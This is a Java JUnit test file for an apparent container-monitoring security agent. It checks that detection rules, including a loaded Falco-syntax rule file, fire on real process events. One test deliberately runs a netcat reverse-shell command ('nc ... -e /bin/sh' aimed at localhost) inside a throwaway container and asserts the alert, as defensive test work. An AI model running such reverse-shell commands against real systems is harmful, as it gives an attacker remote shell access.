package dev.vigil.agent;

import com.fasterxml.jackson.databind.JsonNode;
import dev.vigil.containers.Podman;
import dev.vigil.events.alert.Alert;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The detection rules run in the agent on real process events: a default rule fires on a real
 * behaviour in a real container, a benign run of the same tool does not, and a rule file in
 * Falco's syntax named in the configuration is loaded and fires with its formatted output.
 */
@Tag("kernel")
class RuleDetectionTest {
    private static final Duration WAIT = Duration.ofSeconds(20);
    private static Podman podman;
    private static Agent agent;
    private static CapturingSink sink;
    private static Path work;

    @BeforeAll
    static void start() throws Exception {
        Podman.ensureImage();
        podman = new Podman();
        work = Files.createTempDirectory("vigil-rules");
        Path rules = work.resolve("site-rules.yaml");
        Files.writeString(rules, """
                - list: vigil_test_tools
                  items: [echo]
                - macro: vigil_test_marker
                  condition: proc.args contains "vigil-rule-marker"
                - rule: Vigil test marker echoed
                  desc: a test rule in Falco's syntax, loaded from the agent's configuration
                  condition: evt.type = execve and proc.name in (vigil_test_tools) and vigil_test_marker
                  output: marker echoed (cmdline=%proc.cmdline parent=%proc.pname)
                  priority: WARNING
                  tags: [test, mitre_execution, T1059]
                """);
        sink = new CapturingSink(e -> e instanceof Alert);
        agent = TestConfigs.startWithRules(work, rules, sink);
    }

    @AfterAll
    static void stop() throws Exception {
        if (agent != null) agent.close();
        if (podman != null) podman.close();
    }

    @Test
    void aDefaultRuleFiresOnARealReverseShellAttemptInAContainer() throws Exception {
        Path cid = work.resolve("cid-nc");
        List<String> cmd = new ArrayList<>(List.of("podman", "--runtime", "runc", "run", "--rm", "--cidfile", cid.toString(),
                "--name", podman.name("nc"), Podman.IMAGE, "sh", "-c", "nc -w 1 127.0.0.1 9 -e /bin/sh; nc -w 1 127.0.0.1 9; true"));
        Podman.Result r = Podman.exec(cmd, Duration.ofSeconds(60));
        assertThat(r.exit()).as(r.output()).isZero();
        String id = Files.readString(cid).strip();
        JsonNode alert = sink.await(e -> e instanceof Alert a && a.rule().equals("Netcat With Command Execution")
                && a.container() != null && a.container().id().equals(id), WAIT);
        assertThat(alert.get("priority").asText()).isEqualTo("critical");
        assertThat(alert.get("tags").toString()).contains("T1059.004").contains("mitre_execution");
        assertThat(alert.get("output").asText()).contains("nc -w 1 127.0.0.1 9 -e /bin/sh");
        assertThat(alert.get("process").get("args").toString()).contains("-e");
        assertThat(alert.get("ancestors").get(0).get("args").toString()).contains("nc -w 1 127.0.0.1 9 -e");
        // The same tool without -e raised nothing.
        Thread.sleep(1000);
        assertThat(sink.events()).filteredOn(e -> e instanceof Alert a && a.container() != null && a.container().id().equals(id)
                && a.rule().equals("Netcat With Command Execution")).hasSize(1);
    }

    @Test
    void aRuleFileFromTheConfigurationIsLoadedAndFires() throws Exception {
        String marker = "vigil-rule-marker-" + UUID.randomUUID();
        Podman.Result r = Podman.exec(List.of("/bin/echo", marker), WAIT);
        assertThat(r.exit()).isZero();
        JsonNode alert = sink.await(e -> e instanceof Alert a && a.rule().equals("Vigil test marker echoed")
                && a.process() != null && a.process().args().contains(marker), WAIT);
        assertThat(alert.get("output").asText()).isEqualTo("marker echoed (cmdline=echo " + marker + " parent=java)");
        assertThat(alert.get("priority").asText()).isEqualTo("warning");
        assertThat(alert.get("container").isNull()).isTrue();
        assertThat(agent.rules().engine().rules().report().rules()).anyMatch(rr -> rr.name().equals("Vigil test marker echoed"));
    }
}
